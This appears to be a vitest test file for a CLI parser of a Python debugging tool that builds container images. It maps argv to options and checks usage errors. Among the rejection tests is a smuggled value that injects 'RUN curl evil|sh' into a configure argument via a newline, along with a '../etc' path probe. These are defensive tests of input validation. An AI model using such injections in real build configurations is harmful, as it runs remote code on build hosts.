import { describe, expect, it } from 'vitest';
import { CliUsageError, parseCLI } from '../../src/cli/parse.js';
import { COMMAND_IDS, COMMANDS, OPTIONS, optionsOf } from '../../src/cli/table.js';
import { ExitCode, PydbgError } from '../../src/errors.js';

const GiB = 1024 ** 3;
const BUILD_DEFAULTS = { variant: 'debug', python: '3.13', pip: 'offline' };
const PROJECT_DEFAULTS = { project: '.', memory: 8 * GiB };
const CHECK_DEFAULTS = { ...PROJECT_DEFAULTS, followUp: true };

// argv → { command, args, options }: every command, its defaults, and every option at least once
const CASES: Array<[string, string[], { command: string[]; args?: Record<string, unknown>; options: Record<string, unknown> }]> = [
  ['variants', ['variants'], { command: ['variants'], options: {} }],
  ['variants --json', ['variants', '--json'], { command: ['variants'], options: { json: true } }],
  ['boards', ['boards', '--json'], { command: ['boards'], options: { json: true } }],
  ['doctor', ['doctor'], { command: ['doctor'], options: {} }],
  ['doctor --json', ['doctor', '--json'], { command: ['doctor'], options: { json: true } }],
  ['env build defaults', ['env', 'build'], { command: ['env', 'build'], options: BUILD_DEFAULTS }],
  [
    'env build, every option',
    ['env', 'build', '--variant', 'debug,trace-refs', '--python', '3.12.4', '--arch', 'arm64', '--board', 'rpi4', '--build-mode', 'emulated',
      '--configure-arg=--enable-shared', '--configure-arg', '--with-lto', '--cflags', '-DPy_REF_DEBUG', '--source', './cpython', '--pip', 'pypi',
      '--wheelhouse', 'wheels', '--force', '--timeout', '90', '--json', '-q'],
    {
      command: ['env', 'build'],
      options: {
        variant: 'debug,trace-refs', python: '3.12.4', arch: 'arm64', board: 'rpi4', buildMode: 'emulated', configureArg: ['--enable-shared', '--with-lto'],
        cflags: ['-DPy_REF_DEBUG'], source: './cpython', pip: 'pypi', wheelhouse: 'wheels', force: true, timeout: 90, json: true, quiet: true,
      },
    },
  ],
  [
    'env build --source-url --sha256 (lower-cased)',
    ['env', 'build', '--source-url', 'https://example.org/Python-3.12.4.tgz', '--sha256', 'A'.repeat(64)],
    { command: ['env', 'build'], options: { ...BUILD_DEFAULTS, sourceUrl: 'https://example.org/Python-3.12.4.tgz', sha256: 'a'.repeat(64) } },
  ],
  ['env dockerfile', ['env', 'dockerfile', '--variant', 'nopymalloc', '--cflags=-O0'], { command: ['env', 'dockerfile'], options: { ...BUILD_DEFAULTS, variant: 'nopymalloc', cflags: ['-O0'] } }],
  ['env list', ['env', 'list'], { command: ['env', 'list'], options: {} }],
  ['env ls --json (alias)', ['env', 'ls', '--json'], { command: ['env', 'list'], options: { json: true } }],
  ['env inspect', ['env', 'inspect', '3.13.5-nopymalloc', '--json'], { command: ['env', 'inspect'], args: { image: '3.13.5-nopymalloc' }, options: { json: true } }],
  ['env rm images', ['env', 'rm', '3.13.5-debug', 'pydbg/cpython:3.11.2-debug-amd64'], { command: ['env', 'rm'], args: { images: ['3.13.5-debug', 'pydbg/cpython:3.11.2-debug-amd64'] }, options: {} }],
  ['env rm --all', ['env', 'rm', '--all'], { command: ['env', 'rm'], args: { images: [] }, options: { all: true } }],
  ['env gc defaults', ['env', 'gc'], { command: ['env', 'gc'], options: { olderThan: 7 * 86400 } }],
  ['env gc, every option', ['env', 'gc', '--older-than', '12h', '--dry-run', '--json'], { command: ['env', 'gc'], options: { olderThan: 12 * 3600, dryRun: true, json: true } }],
  ['env build --registry --push --locked', ['env', 'build', '--registry', '127.0.0.1:5000/pydbg', '--push', '--locked'], { command: ['env', 'build'], options: { variant: 'debug', python: '3.13', pip: 'offline', registry: '127.0.0.1:5000/pydbg', push: true, locked: true } }],
  ['env build --pull-only', ['env', 'build', '--registry', 'ghcr.io/acme/pydbg/', '--pull-only'], { command: ['env', 'build'], options: { variant: 'debug', python: '3.13', pip: 'offline', registry: 'ghcr.io/acme/pydbg', pullOnly: true } }],
  ['env push', ['env', 'push', '3.13.5-debug', '--registry', 'ghcr.io/acme/pydbg', '--json', '-q'], { command: ['env', 'push'], args: { images: ['3.13.5-debug'] }, options: { registry: 'ghcr.io/acme/pydbg', json: true, quiet: true } }],
  ['lock', ['lock', '-C', 'proj', '--config', 'proj/pydbg.yaml', '--registry', '127.0.0.1:5000/pydbg', '--json'], { command: ['lock'], options: { project: 'proj', config: 'proj/pydbg.yaml', registry: '127.0.0.1:5000/pydbg', json: true } }],
  ['ci github defaults', ['ci', 'github'], { command: ['ci', 'github'], options: { project: '.' } }],
  ['ci github, every option', ['ci', 'github', '-C', 'proj', '--config', 'proj/pydbg.yaml', '--arm-runners', 'native', '-o', '.github/workflows/pydbg.yml', '--force'], { command: ['ci', 'github'], options: { project: 'proj', config: 'proj/pydbg.yaml', armRunners: 'native', output: '.github/workflows/pydbg.yml', force: true } }],
  ['run --no-build --build-mode', ['run', '--no-build', '--arch', 'arm64', '--python', '3.10', '--build-mode', 'emulated', '--', 'true'], { command: ['run'], args: { command: ['true'] }, options: { ...PROJECT_DEFAULTS, build: false, arch: 'arm64', python: '3.10', buildMode: 'emulated' } }],
  ['run defaults', ['run', '--', 'python', 'repro.py'], { command: ['run'], args: { command: ['python', 'repro.py'] }, options: PROJECT_DEFAULTS }],
  [
    'run, every option',
    ['run', '--variant', 'nopymalloc', '--python', '3.11', '--arch', 'arm64', '--board', 'rpi4', '-C', 'ext', '--config', 'ci.yaml', '--build', '--network', '--rw',
      '--timeout', '1.5', '--memory', '512m', '--cpus', '0.5', '--user', '1000:1000', '-e', 'A=1', '--env', 'B=x=y', '-e', 'EMPTY=', '--gdb', '--core',
      '--json', '--json-out', 'r.json', '-q', '--', 'python', '-X', 'dev', 'repro.py'],
    {
      command: ['run'], args: { command: ['python', '-X', 'dev', 'repro.py'] },
      options: {
        variant: 'nopymalloc', python: '3.11', arch: 'arm64', board: 'rpi4', project: 'ext', config: 'ci.yaml', build: true, network: true, rw: true, timeout: 1.5,
        memory: 512 * 1024 ** 2, cpus: 5e8, user: '1000:1000', env: { A: '1', B: 'x=y', EMPTY: '' }, gdb: true, core: true, json: true, jsonOut: 'r.json', quiet: true,
      },
    },
  ],
  ['run --repro', ['run', '--repro', 'leak'], { command: ['run'], args: { command: [] }, options: { ...PROJECT_DEFAULTS, reproName: 'leak' } }],
  ['run --json before --', ['run', '--json', '--', 'python', 'x.py'], { command: ['run'], args: { command: ['python', 'x.py'] }, options: { ...PROJECT_DEFAULTS, json: true } }],
  ['run --json - (the old spelling of the switch)', ['run', '--json', '-', '--', 'python', 'x.py'], { command: ['run'], args: { command: ['python', 'x.py'] }, options: { ...PROJECT_DEFAULTS, json: true } }],
  ['run: options after the command belong to it', ['run', 'python', 'x.py', '--json', '-e', 'X'], { command: ['run'], args: { command: ['python', 'x.py', '--json', '-e', 'X'] }, options: PROJECT_DEFAULTS }],
  ['run: a -- inside the command stays', ['run', '--', 'python', 'x.py', '--', '-v'], { command: ['run'], args: { command: ['python', 'x.py', '--', '-v'] }, options: PROJECT_DEFAULTS }],
  ['shell', ['shell', '--variant', 'trace-refs', '--rw', '-e', 'X=1', '--timeout', '60'], { command: ['shell'], options: { ...PROJECT_DEFAULTS, variant: 'trace-refs', rw: true, env: { X: '1' }, timeout: 60 } }],
  ['shell --build-mode emulated', ['shell', '--arch', 'armv7', '--build-mode', 'emulated'], { command: ['shell'], options: { ...PROJECT_DEFAULTS, arch: 'armv7', buildMode: 'emulated' } }],
  ['check defaults', ['check', 'memcheck', 'repro.py'], { command: ['check'], args: { analysis: 'memcheck', repro: ['repro.py'] }, options: CHECK_DEFAULTS }],
  [
    'check, every option',
    ['check', 'leaks', 'refleak:search', '--variant', 'debug', '--python', '3.13', '-C', 'ex', '--out', 'rep', '--json', '--json-out', 'r.json', '--sarif', 'r.sarif',
      '--junit', 'r.xml', '--iterations', '200', '--rounds', '6', '--warmup', '0', '--memory', '2g', '--cpus', '2', '--user', 'nobody', '-e', 'PYTHONMALLOC=malloc',
      '--timeout', '600', '--build', '--build-mode', 'cross', '-q', '--no-follow-up'],
    {
      command: ['check'], args: { analysis: 'leaks', repro: ['refleak:search'] },
      options: {
        variant: 'debug', python: '3.13', project: 'ex', out: 'rep', json: true, jsonOut: 'r.json', sarif: 'r.sarif', junit: 'r.xml', iterations: 200, rounds: 6, warmup: 0,
        memory: 2 * GiB, cpus: 2e9, user: 'nobody', env: { PYTHONMALLOC: 'malloc' }, timeout: 600, build: true, buildMode: 'cross', quiet: true, followUp: false,
      },
    },
  ],
  ['check --json before the repro (a switch: repro.py is the repro)', ['check', 'leaks', '--json', 'repro.py'], { command: ['check'], args: { analysis: 'leaks', repro: ['repro.py'] }, options: { ...CHECK_DEFAULTS, json: true } }],
  ['check --json - after the repro', ['check', 'memcheck', 'repro.py', '--json', '-'], { command: ['check'], args: { analysis: 'memcheck', repro: ['repro.py'] }, options: { ...CHECK_DEFAULTS, json: true } }],
  ['check: repro arguments after --', ['check', 'memcheck', '--', 'repro.py', '--n', '3'], { command: ['check'], args: { analysis: 'memcheck', repro: ['repro.py', '--n', '3'] }, options: CHECK_DEFAULTS }],
  ['check rss --malloc LIST', ['check', 'rss', '--malloc', 'glibc,tcmalloc', 'soak.py'], { command: ['check'], args: { analysis: 'rss', repro: ['soak.py'] }, options: { ...CHECK_DEFAULTS, mallocs: ['glibc', 'tcmalloc'] } }],
  ['check --repro', ['check', 'asan', '--repro', 'crash'], { command: ['check'], args: { analysis: 'asan', repro: [] }, options: { ...CHECK_DEFAULTS, reproName: 'crash' } }],
  [
    'check: a matrix (comma lists, --variant repeated, --matrix, --jobs)',
    ['check', 'memcheck', '--python', '3.11,3.13', '--variant', 'debug', '--variant', 'tsan,freethreaded', '--arch', 'amd64,arm64', '--matrix', '--jobs', '2', 'repro.py'],
    { command: ['check'], args: { analysis: 'memcheck', repro: ['repro.py'] }, options: { ...CHECK_DEFAULTS, python: '3.11,3.13', variant: ['debug', 'tsan,freethreaded'], arch: 'amd64,arm64', matrix: true, jobs: 2 } },
  ],
  // live programs
  ['run --name --detach', ['run', '--name', 'svc', '--detach', '--', 'python', 'server.py'], { command: ['run'], args: { command: ['python', 'server.py'] }, options: { ...PROJECT_DEFAULTS, name: 'svc', detach: true } }],
  ['run -d (short)', ['run', '-d', '--', 'python', 'server.py'], { command: ['run'], args: { command: ['python', 'server.py'] }, options: { ...PROJECT_DEFAULTS, detach: true } }],
  ['ps', ['ps'], { command: ['ps'], options: {} }],
  ['ps --json', ['ps', '--json'], { command: ['ps'], options: { json: true } }],
  ['stacks NAME', ['stacks', 'svc'], { command: ['stacks'], args: { name: 'svc' }, options: {} }],
  ['stacks --core FILE --json', ['stacks', '--core', 'cores/svc.core', '--json'], { command: ['stacks'], args: { name: undefined }, options: { coreFile: 'cores/svc.core', json: true } }],
  ['run --malloc jemalloc', ['run', '--malloc', 'jemalloc', '--', 'python', 'x.py'], { command: ['run'], args: { command: ['python', 'x.py'] }, options: { ...PROJECT_DEFAULTS, malloc: 'jemalloc' } }],
  ['heap NAME: the defaults', ['heap', 'svc'], { command: ['heap'], args: { name: 'svc' }, options: { samples: 3, interval: 10, top: 10, holders: 3 } }],
  ['heap NAME with every option', ['heap', 'svc', '--samples', '4', '--interval', '15', '--top', '5', '--holders', '0', '--graph', 'g.svg', '--json'], { command: ['heap'], args: { name: 'svc' }, options: { samples: 4, interval: 15, top: 5, holders: 0, graph: 'g.svg', json: true } }],
  ['inject NAME -c CODE', ['inject', 'svc', '-c', 'import gc; print(len(gc.garbage))'], { command: ['inject'], args: { name: 'svc' }, options: { code: 'import gc; print(len(gc.garbage))' } }],
  ['inject --code that starts with a dash, --json', ['inject', 'svc', '--code', '-1 if x else 2', '--json'], { command: ['inject'], args: { name: 'svc' }, options: { code: '-1 if x else 2', json: true } }],
  ['core NAME', ['core', 'svc.1', '--json'], { command: ['core'], args: { name: 'svc.1' }, options: { json: true } }],
  ['stop NAME', ['stop', 'svc'], { command: ['stop'], args: { name: 'svc' }, options: {} }],
];

describe('parseCLI: argv → command, args, options', () => {
  it.each(CASES)('%s', (_name, argv, want) => {
    expect(parseCLI(argv)).toEqual({ args: {}, ...want });
  });

  it('covers every command, and every option on one of its commands', () => {
    const seen = new Set(CASES.map(([, argv]) => parseCLI(argv).command.join(' ')));
    expect([...seen].sort()).toEqual([...COMMAND_IDS].sort());
    for (const o of OPTIONS) {
      const names = o.flags.match(/--?[\w-]+/g)!;
      const used = CASES.some(([, argv]) => o.on.includes(parseCLI(argv).command.join(' ') as never) && argv.some((a) => names.includes(a.replace(/=.*/, ''))));
      expect(used, `${o.flags} on ${o.on.join(', ')}`).toBe(true);
    }
  });

  it('help and version are results, not output', () => {
    const h = parseCLI(['help', 'env', 'build']);
    expect(h.command).toEqual(['help']);
    expect(h.args.topic).toEqual(['env', 'build']);
    expect(h.args.text).toMatch(/^Usage: pydbg env build \[options\]/);
    expect(h.args.text).toContain('Examples:\n  pydbg env build --variant nopymalloc --python 3.13');
    expect(parseCLI(['env', 'build', '--help']).args.text).toBe(h.args.text);
    expect(parseCLI(['env', 'help', 'build']).args.text).toBe(h.args.text);
    expect(parseCLI(['help']).args.text).toContain('Exit codes:');
    expect(parseCLI(['--version'])).toEqual({ command: ['version'], args: { text: expect.stringMatching(/^\d+\.\d+\.\d+\n$/) }, options: {} });
  });
});

describe('the option table', () => {
  it('gives each command each flag once, and every command examples', () => {
    for (const id of COMMAND_IDS) {
      const flags = optionsOf(id).flatMap((o) => o.flags.match(/--?[\w-]+/g) ?? []);
      expect(new Set(flags).size, id).toBe(flags.length);
      expect(COMMANDS.find((c) => c.id === id)!.examples.length, id).toBeGreaterThan(0);
    }
  });
  it('--json is a switch on every command that has it', () => {
    for (const o of OPTIONS.filter((x) => x.key === 'json')) {
      const operands = (id: string) => (id === 'env inspect' ? ['img'] : id === 'check' ? ['memcheck', 'x.py'] : ['inject', 'core', 'stop', 'stacks', 'heap'].includes(id) ? ['svc'] : []);
      for (const id of o.on) expect(parseCLI([...id.split(' '), ...operands(id), '--json']).options.json, id).toBe(true);
    }
  });
});

// argv → a usage error (exit 2) with one line, a hint, and these words
const BAD: Array<[string[], RegExp]> = [
  [['run', '--memory', 'lots', '--', 'x'], /--memory must be a size such as 4g or 512m, not 'lots'/],
  [['run', '--memory', '1k', '--', 'x'], /--memory must be at least 6m/],
  [['run', '--cpus', 'many', '--', 'x'], /--cpus must be a number of CPUs/],
  [['run', '--cpus', '0', '--', 'x'], /--cpus must be a number of CPUs/],
  [['run', '--user', 'a:b:c', '--', 'x'], /--user must be USER or USER:GROUP/],
  [['run', '-e', 'FOO', '--', 'x'], /--env must be NAME=VALUE with a valid variable name, not 'FOO'/],
  [['run', '-e', '1X=2', '--', 'x'], /--env must be NAME=VALUE/],
  [['run', '--timeout', '0', '--', 'x'], /--timeout must be a positive number of seconds/],
  [['run', '--timeout', 'abc', '--', 'x'], /--timeout must be a positive number of seconds/],
  [['run', '--timeout', '99999999', '--', 'x'], /at most 2147483/],
  [['env', 'build', '--timeout', '-5'], /--timeout must be a positive number/],
  [['check', 'leaks', 'x:y', '--warmup', 'abc'], /--warmup must be a whole number ≥ 0, not 'abc'/],
  [['check', 'leaks', 'x:y', '--rounds', '0'], /--rounds must be a whole number ≥ 1/],
  [['check', 'leaks', 'x:y', '--iterations', '1.5'], /--iterations must be a whole number ≥ 1/],
  [['env', 'build', '--sha256', 'zz'], /--sha256 must be 64 hex digits/],
  [['env', 'build', '--source-url', 'not a url'], /--source-url is not a valid URL: 'not a url'/],
  [['env', 'build', '--source-url', 'http://[::1'], /--source-url is not a valid URL/],
  [['env', 'build', '--source-url', 'ftp://x/Python-3.12.4.tgz'], /must be an http\(s\) URL/],
  [['env', 'build', '--configure-arg', '--with-x\nRUN curl evil|sh'], /--configure-arg must not contain control characters/],
  [['env', 'dockerfile', '--cflags', '-O0\r'], /--cflags must not contain control characters/],
  [['env', 'build', '--pip', 'pypy'], /--pip must be one of offline, pypi, not 'pypy' \(Did you mean pypi\?\)/],
  [['env', 'build', '--build-mode', 'native'], /--build-mode must be one of cross, emulated/],
  [['run', '--json', 'out.json', '--', 'python', 'x.py'], /--json is a switch \(JSON on stdout\) and takes no file: 'out.json'/],
  [['check', 'memcheck', 'x.py', '--out', '--json'], /--out needs a path, not the option '--json'/],
  [['run', '--variant', '--python', '3.13', '--', 'x'], /--variant needs a value, not the option '--python'/],
  [['run', '--repro', '--gdb'], /--repro needs a name/],
  [['check', 'memchek', 'x.py'], /unknown analysis 'memchek' \(Did you mean memcheck\?\)/],
  [['check'], /missing required argument 'analysis'/],
  [['env', 'inspect'], /missing required argument 'image'/],
  [['run', '--jsno', '--', 'x'], /unknown option '--jsno' \(Did you mean --json\?\)/],
  [['variants', 'extra'], /too many arguments for 'variants'/],
  [['env', 'biuld'], /unknown command 'env biuld' \(Did you mean 'env build'\?\)/],
  [['rnu'], /unknown command 'rnu' \(Did you mean 'run'\?\)/],
  [['help', 'nosuch'], /unknown command 'nosuch'/],
  [['help', 'env', 'bild'], /unknown command 'env bild' \(Did you mean 'env build'\?\)/],
  [[], /no command given/],
  [['env'], /'pydbg env' needs a command/],
  [['run', '--name', '-x', '--', 'x'], /--name must be a name of letters, digits/],
  [['run', '--name', 'a b', '--', 'x'], /--name must be a name of letters, digits, '_', '\.' and '-' \(not first\), at most 63 characters, not 'a b'/],
  [['run', '--name', 'x'.repeat(64), '--', 'x'], /--name must be a name/],
  [['stacks', '../etc'], /NAME must be a name of letters/],
  [['stop'], /missing required argument 'name'/],
  [['heap', 'svc', '--samples', '0'], /--samples must be/],
  [['run', '--malloc', 'mimalloc', '--', 'x'], /--malloc must be one of glibc, jemalloc, tcmalloc, not 'mimalloc'/],
  [['heap', 'svc', '--interval', 'soon'], /--interval must be a positive number of seconds/],
  [['inject', 'svc', '-c', ''], /-c needs Python code, not an empty string|--code needs Python code/],
  [['core', 'svc', 'extra'], /too many arguments for 'core'/],
];

describe('parseCLI: every malformed input is a one-line usage error with a hint', () => {
  it.each(BAD)('%j', (argv, message) => {
    let err: unknown;
    try {
      parseCLI(argv);
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(PydbgError);
    const e = err as PydbgError;
    expect(e.exitCode).toBe(ExitCode.USAGE);
    expect(e.message).toMatch(message);
    expect(e.message).not.toContain('\n');
    expect(e.hint).toBeTruthy();
  });
  it('attaches the help where a command is missing', () => {
    for (const [argv, start] of [[[], 'Usage: pydbg [options] [command]'], [['env'], 'Usage: pydbg env [options] [command]'], [['help', 'nosuch'], 'Usage: pydbg [options]']] as const) {
      try {
        parseCLI(argv);
      } catch (e) {
        expect((e as CliUsageError).help).toMatch(new RegExp(`^${start.replace(/[[\]]/g, '\\$&')}`));
      }
    }
  });
});
